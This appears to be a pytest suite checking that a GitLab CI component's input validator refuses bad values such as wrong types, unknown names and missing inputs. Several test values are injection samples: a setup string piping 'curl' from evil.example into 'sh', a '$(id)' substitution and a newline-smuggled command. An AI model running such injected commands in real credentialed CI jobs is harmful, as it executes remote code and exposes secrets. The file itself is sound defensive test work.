"""Bad inputs are refused, each with a message naming the input.

gitlab-ci-local refuses what GitLab refuses when it builds the pipeline: a
value outside `options`, a value failing `regex`, a value of the wrong type,
a missing required input. It accepts an input name the component does not
declare (GitLab refuses it); tools/ci/check_inputs.py closes that gap, and
also catches the other four before a pipeline is ever built.
"""

import os
import subprocess
import sys

import pytest

from ci.tests import support

CONSUMER = """\
include:
  - component: $CI_SERVER_FQDN/platform/modelship/pipeline@1.0.0
    inputs:
{inputs}"""
# The full pipeline's required inputs: everything particular to the model, and
# where to deploy.
MODEL = ("      repository: $CI_PROJECT_PATH/iris\n"
         "      api_releases: services/iris/api/releases\n"
         "      api_contract: services/iris\n")
REQUIRED = MODEL + "      deploy_target: local\n"

BAD = {
    # name: (inputs, the input the error must name)
    "value_outside_options": (REQUIRED + "      mode: hourly\n", "mode"),
    "failed_regex": (REQUIRED + "      job_prefix: Digits_Team\n", "job_prefix"),
    "image_not_pinned_by_digest": (
        REQUIRED + "      image: docker.io/library/debian:bookworm\n", "image"),
    "wrong_type_boolean": (REQUIRED + "      canary: sometimes\n", "canary"),
    "wrong_type_array": (REQUIRED + "      steps: 10,25,50\n", "steps"),
    "wrong_type_number": (REQUIRED + "      step_interval: a minute\n", "step_interval"),
    "missing_required_input": (MODEL + "      mode: timed\n", "deploy_target"),
    "missing_repository": ("      deploy_target: local\n      api_releases: r\n"
                           "      api_contract: c\n", "repository"),
    "missing_api_contract": ("      deploy_target: local\n      repository: team/iris\n"
                             "      api_releases: r\n", "api_contract"),
    # setup and tool run in jobs that hold registry credentials: plain words only.
    "setup_with_shell_syntax": (
        REQUIRED + "      setup: 'tools/bootstrap; curl -s https://evil.example | sh'\n",
        "setup"),
    "setup_with_command_substitution": (REQUIRED + "      setup: tools/bootstrap $(id)\n",
                                        "setup"),
    "tool_from_a_variable": (REQUIRED + "      tool: $CI_COMMIT_MESSAGE\n", "tool"),
    "tool_starting_with_an_option": (REQUIRED + "      tool: --version\n", "tool"),
    "tool_with_a_newline": (REQUIRED + "      tool: \"tools/ci/modelship-tool\\nid\"\n", "tool"),
}


@pytest.fixture(scope="module", name="offline")
def fixture_offline(tmp_path_factory):
    """The component project, served offline."""
    return support.Offline(str(tmp_path_factory.mktemp("offline")))


def check_inputs(*paths):
    """Runs tools/ci/check_inputs.py on the workspace's templates."""
    argv = [sys.executable, support.workspace_file("tools/ci/check_inputs.py"),
            "--templates", support.workspace_file("templates")] + list(paths)
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path))
    return subprocess.run(argv, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          text=True, check=False)


@pytest.mark.parametrize("case", sorted(BAD))
def test_gitlab_ci_local_refuses_bad_input(offline, case):
    inputs, name = BAD[case]
    project = offline.consumer(case, CONSUMER.format(inputs=inputs))
    proc = offline.gcl(project, "--list", check=False)
    assert proc.returncode != 0
    assert f"`{name}` input" in proc.stdout + proc.stderr


@pytest.mark.parametrize("case", sorted(BAD))
def test_check_inputs_refuses_bad_input(tmp_path, case):
    inputs, name = BAD[case]
    pipeline = tmp_path / ".gitlab-ci.yml"
    pipeline.write_text(CONSUMER.format(inputs=inputs), encoding="utf-8")
    proc = check_inputs(str(pipeline))
    assert proc.returncode == 1
    assert f"'{name}'" in proc.stderr, proc.stderr


def test_check_inputs_refuses_a_digest_with_a_trailing_newline(tmp_path):
    # GitLab's RE2 `$` ends at the end of the text; Python's also before a final "\n".
    digest = "sha256:" + "ab" * 32
    pipeline = tmp_path / ".gitlab-ci.yml"
    pipeline.write_text(CONSUMER.format(
        inputs=REQUIRED + f'      image: "registry.example/team/iris@{digest}\\n"\n'),
        encoding="utf-8")
    proc = check_inputs(str(pipeline))
    assert proc.returncode == 1, proc.stderr
    assert "input 'image'" in proc.stderr and "does not match" in proc.stderr
    pipeline.write_text(CONSUMER.format(
        inputs=REQUIRED + f'      image: "registry.example/team/iris@{digest}"\n'),
        encoding="utf-8")
    assert check_inputs(str(pipeline)).returncode == 0


def test_unknown_input_passes_gitlab_ci_local_but_not_check_inputs(offline):
    text = CONSUMER.format(inputs=REQUIRED + "      deploy_tagret: kubernetes\n")
    project = offline.consumer("unknown", text)
    assert offline.gcl(project, "--list", check=False).returncode == 0
    proc = check_inputs(os.path.join(project, ".gitlab-ci.yml"))
    assert proc.returncode == 1
    assert "unknown input 'deploy_tagret'; did you mean 'deploy_target'?" in proc.stderr


def test_unknown_input_of_a_project_include_is_refused(tmp_path):
    pipeline = tmp_path / ".gitlab-ci.yml"
    pipeline.write_text("include:\n  - project: platform/modelship\n    ref: 1.0.0\n"
                        "    file: templates/promote.yml\n    inputs:\n      tags: stable\n",
                        encoding="utf-8")
    proc = check_inputs(str(pipeline))
    assert proc.returncode == 1
    assert "promote: unknown input 'tags'; did you mean 'tag'?" in proc.stderr


@pytest.mark.parametrize("steps", ["[50, 25]", "[0, 50]", "[10, 100]", "[]", "[10, 10]"])
def test_canary_steps_must_be_ascending_percentages(tmp_path, steps):
    pipeline = tmp_path / ".gitlab-ci.yml"
    pipeline.write_text(CONSUMER.format(inputs=REQUIRED + f"      steps: {steps}\n"),
                        encoding="utf-8")
    proc = check_inputs(str(pipeline))
    assert proc.returncode == 1
    assert "input 'steps'" in proc.stderr


def test_every_problem_is_reported_at_once(tmp_path):
    pipeline = tmp_path / ".gitlab-ci.yml"
    pipeline.write_text(CONSUMER.format(inputs="      mode: hourly\n      colour: red\n"),
                        encoding="utf-8")
    lines = check_inputs(str(pipeline)).stderr.strip().splitlines()
    # the option, the unknown name, the four missing required inputs
    assert len(lines) == 6, lines
    for name in ("repository", "api_releases", "api_contract", "deploy_target"):
        assert [line for line in lines if f"required input '{name}' is missing" in line], name


def test_shipped_pipelines_pass():
    paths = [support.workspace_file(".gitlab-ci.yml")] + [
        support.workspace_file(f"ci/examples/{name}.gitlab-ci.yml")
        for name in ("component", "project", "pick")]
    proc = check_inputs(*paths)
    assert proc.returncode == 0, proc.stderr


@pytest.mark.parametrize("value", ["tools/bootstrap", "true", "./bin/setup --quiet",
                                   "bazel run //tools/ci:x --", "/opt/toolchain/install.sh"])
def test_plain_commands_pass_as_setup_and_tool(tmp_path, value):
    pipeline = tmp_path / ".gitlab-ci.yml"
    pipeline.write_text(CONSUMER.format(inputs=REQUIRED + f"      setup: '{value}'\n"
                                        f"      tool: '{value}'\n"), encoding="utf-8")
    proc = check_inputs(str(pipeline))
    assert proc.returncode == 0, proc.stderr
